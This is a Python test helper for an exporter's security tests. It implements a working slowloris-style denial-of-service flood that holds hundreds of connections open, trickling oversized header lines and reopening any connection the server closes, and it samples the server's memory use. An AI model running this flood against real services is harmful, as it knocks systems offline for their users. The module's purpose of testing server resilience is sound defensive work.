"""Hostile HTTP clients for the security tests: many connections that trickle oversized request heads.

The attack the security probe ran against the exporter: open hundreds of connections, send a request line,
then keep sending large header lines a little at a time so that no single read ever times out, without
credentials. Every connection the server closes is reopened at once, so the pressure never lets up. One
thread drives every socket with ``select`` so the attacker itself stays cheap.
"""

from __future__ import annotations

import select
import socket
import ssl
import threading
import time
from dataclasses import dataclass, field


@dataclass
class AttackStats:
    opened: int = 0
    closed_by_server: int = 0      # connections the server shut (reset, EOF or an error answer)
    refused: int = 0               # connect() or the TLS handshake failed
    bytes_sent: int = 0
    answers: dict[str, int] = field(default_factory=dict)  # status line prefix -> count


class HeaderFlood:
    """`connections` sockets to host:port, each sending `chunk` bytes every `interval` s of header lines
    `line` bytes long (just under the 64 KiB a line that http.server accepts)."""

    def __init__(self, host: str, port: int, *, connections: int = 300, chunk: int = 4096,
                 interval: float = 0.25, line: int = 60_000, tls: bool = False) -> None:
        self.host, self.port = host, port
        self.connections, self.chunk, self.interval = connections, chunk, interval
        self.line = line
        self.ctx: ssl.SSLContext | None = None
        if tls:
            self.ctx = ssl.create_default_context()
            self.ctx.check_hostname = False
            self.ctx.verify_mode = ssl.CERT_NONE
        self.stats = AttackStats()
        self._offsets: dict[int, int] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="header-flood", daemon=True)

    def __enter__(self) -> HeaderFlood:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)

    def _open(self) -> socket.socket | None:
        try:
            s = socket.create_connection((self.host, self.port), timeout=2)
            if self.ctx is not None:
                s = self.ctx.wrap_socket(s, server_hostname=self.host)
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            self.stats.refused += 1
            return None
        s.setblocking(False)
        self.stats.opened += 1
        return s

    def _run(self) -> None:
        socks: list[socket.socket] = []
        # one long stream of "X-Pad: aaaa...\r\n" lines, sent `chunk` bytes at a time per connection
        stream = (b"X-Pad: " + b"a" * (self.line - 9) + b"\r\n") * (2 + self.chunk // self.line)
        offset = self._offsets
        while not self._stop.is_set():
            while len(socks) < self.connections and not self._stop.is_set():
                s = self._open()
                if s is None:
                    break
                socks.append(s)
            readable, _, _ = select.select(socks, [], [], 0) if socks else ([], [], [])
            for s in readable:
                self._drop(s, socks)
            for s in list(socks):
                at = offset.get(id(s), 0)
                try:
                    sent = s.send(stream[at:at + self.chunk])
                    self.stats.bytes_sent += sent
                    offset[id(s)] = (at + sent) % self.line
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass   # the server is not reading: its buffers, not its memory, are full
                except OSError:
                    self._drop(s, socks)
            self._stop.wait(self.interval)
        for s in socks:
            s.close()

    def _drop(self, s: socket.socket, socks: list[socket.socket]) -> None:
        try:
            data = s.recv(64)
        except (BlockingIOError, ssl.SSLWantReadError):
            return
        except OSError:
            data = b""
        status = data.split(b"\r\n", 1)[0].decode("latin-1")[:12] if data else "closed"
        self.stats.answers[status] = self.stats.answers.get(status, 0) + 1
        self.stats.closed_by_server += 1
        socks.remove(s)
        s.close()
        self._offsets.pop(id(s), None)


def rss_kib(pid: int, key: str = "VmRSS") -> int:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    raise RuntimeError(f"no {key} for pid {pid}")


def sample_rss(pid: int, seconds: float, step: float = 0.25) -> list[int]:
    out = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        out.append(rss_kib(pid))
        time.sleep(step)
    return out
